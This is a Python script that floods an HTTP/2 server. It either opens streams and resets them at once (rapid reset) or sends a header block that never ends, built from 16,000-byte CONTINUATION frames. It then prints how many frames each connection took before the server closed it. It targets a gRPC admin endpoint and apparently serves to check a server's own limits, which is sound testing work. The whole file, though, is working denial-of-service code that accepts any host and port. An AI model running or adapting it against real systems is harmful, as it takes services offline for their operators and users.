#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods a port with HTTP/2 streams that are reset at once, or with a header without end, without a token, and prints what became of
each connection.

usage: http2_flood.py HOST:PORT CONNECTIONS STREAMS [--tls] [--apart | --header] [--source ADDRESS]

Opens CONNECTIONS connections one after another, and tries to send STREAMS streams on each. A reset follows its call at once, or with
--apart when the call has been processed. With --header, each connection has one stream, whose header has STREAMS continuations of
16,000 bytes and does not end. Prints, for each connection, how many of them had been sent when the other side closed it, or `all` if it
did not.
"""
import argparse
import socket
import ssl
import struct

BATCH = 50
TIMEOUT_S = 30
HEADERS, CONTINUATION, END_HEADERS = 1, 9, 4
RST_STREAM, CANCEL = 3, struct.pack(">I", 8)
# A field with a value of 16,000 bytes, without indexing: the length is 127 + 1 + 124 * 128, RFC 7541, section 5.1.
LONG_FIELD = b"\x00\x01a\x7f\x81\x7c" + b"a" * 16_000


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    return bytes([len(value)]) + value


def headers(is_tls):
    """The header of a call as HPACK: POST, scheme, path, authority, content type and trailers, from the static table or literal."""
    return (b"\x83" + (b"\x87" if is_tls else b"\x86") + b"\x04" + text(b"/evpose.v1.AdminService/GetServerInfo") + b"\x01" +
            text(b"flood") + b"\x0f\x10" + text(b"application/grpc") + b"\x00\x02te\x08trailers")


def connect(arguments):
    host, _, port = arguments.address.rpartition(":")
    source = (arguments.source, 0) if arguments.source else None
    connection = socket.create_connection((host, int(port)), timeout=TIMEOUT_S, source_address=source)
    if arguments.tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname=host)
    return connection


def is_closed(connection):
    """Reads what has come, without waiting."""
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
        return True
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    finally:
        connection.settimeout(TIMEOUT_S)


def has_answered(connection):
    """Waits until the other side has processed what was sent before a PING, or has closed."""
    connection.sendall(frame(6, 0, 0, bytes(8)))
    got = b""
    while frame(6, 1, 0, bytes(8)) not in got:
        read = connection.recv(1 << 16)
        if not read:
            return False
        got = got[-16:] + read
    return True


def flood(arguments):
    block = headers(arguments.tls)
    sent = 0
    try:
        with connect(arguments) as connection:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            while sent < arguments.streams:
                numbers = range(2 * sent + 1, 2 * (sent + BATCH) + 1, 2)
                calls = [frame(HEADERS, END_HEADERS, number, block) for number in numbers]
                resets = [frame(RST_STREAM, 0, number, CANCEL) for number in numbers]
                if arguments.apart:
                    connection.sendall(b"".join(calls))
                    if not has_answered(connection):
                        return sent
                    connection.sendall(b"".join(resets))
                else:
                    connection.sendall(b"".join(call + reset for call, reset in zip(calls, resets)))
                    if is_closed(connection):
                        return sent
                sent += BATCH
            return "all"
    except OSError:
        return sent


def flood_header(arguments):
    sent = 0
    try:
        with connect(arguments) as connection:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(HEADERS, 0, 1, headers(arguments.tls)))
            while sent < arguments.streams:
                connection.sendall(frame(CONTINUATION, 0, 1, LONG_FIELD))
                sent += 1
                if is_closed(connection):
                    return sent
            return "all"
    except OSError:
        return sent


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("connections", type=int)
    parser.add_argument("streams", type=int)
    parser.add_argument("--apart", action="store_true")
    parser.add_argument("--header", action="store_true")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--source")
    arguments = parser.parse_args()
    for _ in range(arguments.connections):
        print((flood_header if arguments.header else flood)(arguments), flush=True)


main()
